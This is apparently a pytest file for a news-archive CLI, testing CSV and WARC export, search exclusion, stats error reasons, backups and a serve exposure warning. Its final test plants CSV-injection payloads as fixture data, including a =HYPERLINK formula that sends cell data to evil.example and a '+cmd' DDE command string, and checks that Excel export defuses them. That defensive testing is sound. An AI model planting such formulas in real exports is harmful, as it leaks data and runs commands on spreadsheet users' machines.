"""Smaller points archivists hit (issue 12, point 8): Excel CSV, error reasons, singular count,
exclusion with ``--``, backups keep the file mode, ``serve`` warns when exposed."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from archive.cli import main
from archive.serve import exposure_warning
from tests.archive.test_queries_samples import build_archive


def run(*args: str) -> Result:
    return CliRunner().invoke(main, list(args))


@pytest.fixture(scope="module")
def archive_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path: Path = build_archive(tmp_path_factory.mktemp("small") / "archive.db")
    return path


def test_excel_csv_has_a_bom_and_crlf(archive_path: Path, tmp_path: Path) -> None:
    plain, excel = tmp_path / "plain.csv", tmp_path / "excel.csv"
    db = str(archive_path)
    assert run("export", "--format", "csv", "-o", str(plain), "--db", db).exit_code == 0
    result = run("export", "--format", "csv", "--excel", "-o", str(excel), "--db", db)
    assert result.exit_code == 0, result.output
    data = excel.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data[3:].replace(b"\r\n", b"\n") == plain.read_bytes().replace(b"\r\n", b"\n")
    rows = data[3:].split(b"\r\n")
    assert rows[0].startswith(b"site_id,url,title") and len(rows) > 5
    assert not plain.read_bytes().startswith(b"\xef\xbb\xbf")
    assert b"\r\n" not in plain.read_bytes()
    assert "Điện" in data.decode("utf-8-sig")


@pytest.mark.parametrize(
    "args", [["--excel"], ["--format", "warc", "--excel"], ["--format", "csv", "--revisions"]]
)
def test_excel_and_revisions_need_their_format(archive_path: Path, args: list[str]) -> None:
    assert run("export", *args, "--db", str(archive_path)).exit_code == 2


def test_stats_gives_the_reason_of_each_open_error(archive_path: Path) -> None:
    text = run("stats", "--db", str(archive_path)).stdout
    block = text[text.index("Open fetch errors: 1") :]
    assert "HTTP 404" in block.splitlines()[3]  # the by-reason table
    recent = block[block.index("Most recent 1:") :].splitlines()
    assert recent[1].rstrip().endswith("reason")
    assert recent[3].rstrip().endswith("HTTP 404")  # the recent error's own reason
    figures = json.loads(run("stats", "--json", "--db", str(archive_path)).stdout)
    assert figures["open_errors"]["by_reason"] == [{"reason": "HTTP 404", "count": 1}]


def test_one_article_matches_in_the_singular(archive_path: Path) -> None:
    result = run("search", "lúa", "--db", str(archive_path))
    assert result.stdout.startswith("1 article matches 'lúa', showing 1–1 ")


def test_minus_after_double_dash_excludes(archive_path: Path) -> None:
    every = {
        h["site_id"]
        for h in json.loads(
            run("search", "--json", "-n", "0", "--db", str(archive_path), "--", "-zzzz").stdout
        )
    }
    with_dien = {
        h["site_id"]
        for h in json.loads(run("search", "--json", "--db", str(archive_path), "điện").stdout)
    }
    without = json.loads(
        run("search", "--json-object", "--db", str(archive_path), "--", "-điện").stdout
    )
    assert with_dien and every == with_dien | {h["site_id"] for h in without["results"]}
    assert not with_dien & {h["site_id"] for h in without["results"]}
    assert without["total"] == len(every) - len(with_dien)
    both = json.loads(run("search", "--json", "--db", str(archive_path), "--", "học -sinh").stdout)
    assert both and all("sinh" not in h["title"].lower() for h in both)


def test_unknown_category_names_the_closest(archive_path: Path) -> None:
    result = run("search", "ma", "--category", "tin tuc sk", "--db", str(archive_path))
    assert result.exit_code == 0 and result.stdout == "No articles match 'ma'.\n"
    assert (
        "--category 'tin tuc sk': no category's name contains it (closest: Tin tức sự kiện"
        in result.stderr
    )
    result = run("export", "--since", "2030", "--db", str(archive_path))
    assert "exported 0 articles" in result.stderr
    assert "--since/--until: no article was published on or after 2030-01-01" in result.stderr
    result = run("search", "ma", "--source", "Báo", "--since", "2024-06", "--db", str(archive_path))
    assert "--since/--until: none of the" in result.stderr or "each selects" in result.stderr


def test_since_after_until_is_usage_error(archive_path: Path) -> None:
    for command in (["search", "ma"], ["export"]):
        result = run(
            *command, "--since", "2024-05", "--until", "2024-04", "--db", str(archive_path)
        )
        assert result.exit_code == 2
        assert "--since 2024-05 is after --until 2024-04" in result.stderr


@pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX")
def test_backup_keeps_the_file_mode(archive_path: Path, tmp_path: Path) -> None:
    source = tmp_path / "shared.db"
    source.write_bytes(archive_path.read_bytes())
    source.chmod(0o640)
    dest = tmp_path / "backup.db"
    assert run("backup", str(dest), "--db", str(source)).exit_code == 0
    assert dest.stat().st_mode & 0o777 == 0o640
    source.chmod(0o644)
    assert run("backup", str(dest), "--force", "--db", str(source)).exit_code == 0
    assert dest.stat().st_mode & 0o777 == 0o644


def test_serve_warns_when_the_archive_is_exposed() -> None:
    assert exposure_warning("127.0.0.1", "127.0.0.1") is None
    assert exposure_warning("::1", "::1") is None
    warning = exposure_warning("0.0.0.0", "0.0.0.0")
    assert warning and "--host 0.0.0.0 makes the archive visible" in warning
    assert exposure_warning("192.168.1.5", "192.168.1.5")


def test_serve_on_all_interfaces_prints_the_warning(archive_path: Path) -> None:
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "archive.cli",
            "serve",
            "--host",
            "0.0.0.0",
            "--port",
            "0",
            "--db",
            str(archive_path),
        ],
        stderr=subprocess.PIPE,
        stdout=subprocess.DEVNULL,
        text=True,
    )
    try:
        assert proc.stderr is not None
        lines: list[str] = []
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            line = proc.stderr.readline()
            if not line:
                break
            lines.append(line)
            if line.startswith("Serving"):
                break
        assert any("Warning: --host 0.0.0.0 makes the archive visible" in ln for ln in lines), lines
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=10)


def test_warc_export_selects_by_query(archive_path: Path, tmp_path: Path) -> None:
    from warcio.archiveiterator import ArchiveIterator

    out = tmp_path / "dien.warc.gz"
    result = run(
        "export", "--format", "warc", "--query", "điện", "-o", str(out), "--db", str(archive_path)
    )
    assert result.exit_code == 0, result.output
    urls, info = [], ""
    with open(out, "rb") as fh:
        for record in ArchiveIterator(fh):
            if record.rec_type == "response":
                urls.append(record.rec_headers.get_header("WARC-Target-URI"))
            elif record.rec_type == "warcinfo":
                info = record.content_stream().read().decode()
    pages = [u for u in urls if "/Images/" not in u]  # and the files it names (issue 12)
    assert pages == ["http://127.0.0.1:8765/vn/tin-tuc/104/bai-viet-104.aspx"]
    assert '"query": "\\u0111i\\u1ec7n"' in info  # the selection is recorded


def test_excel_csv_keeps_a_hostile_page_from_running_formulas(tmp_path: Path) -> None:
    """A page whose title, source or caption begins with = + - @ (or a tab, a carriage return)
    is a formula to a spreadsheet: `=HYPERLINK(...)` in an archivist's Excel. With --excel such
    a cell begins with ' (Excel's "this is text" mark, not shown); plain CSV keeps the archived
    text as it is, for scripts."""
    import csv
    import io

    from archive import store
    from archive.db import open_archive
    from crawler.items import Article, Image

    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
    db_path = tmp_path / "a.db"
    db = open_archive(db_path)
    store.save_article(
        db,
        Article(
            site_id=901,
            url="http://h/901",
            title=hostile,
            lead="+cmd|' /C calc'!A0",
            body=["@SUM(1+1)", "Đoạn thường."],
            body_html="",
            published_at=None,
            category="-2+3",
            source="\t=1+1",
            images=[Image("http://h/901/a.jpg", "=1+2")],
            parser="t",
        ),
        page_id=None,
        fetched_at="2026-01-01T00:00:00+00:00",
    )
    db.close()
    plain, excel = tmp_path / "plain.csv", tmp_path / "excel.csv"
    assert run("export", "--format", "csv", "-o", str(plain), "--db", str(db_path)).exit_code == 0
    result = run("export", "--format", "csv", "--excel", "-o", str(excel), "--db", str(db_path))
    assert result.exit_code == 0, result.output
    (plain_row,) = list(csv.DictReader(io.StringIO(plain.read_text("utf-8"))))
    (excel_row,) = list(csv.DictReader(io.StringIO(excel.read_text("utf-8-sig"))))
    assert plain_row["title"] == hostile  # scripts get the archived text
    assert excel_row["title"] == "'" + hostile
    for column, cell in excel_row.items():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert excel_row["site_id"] == "901" and excel_row["url"] == "http://h/901"  # untouched
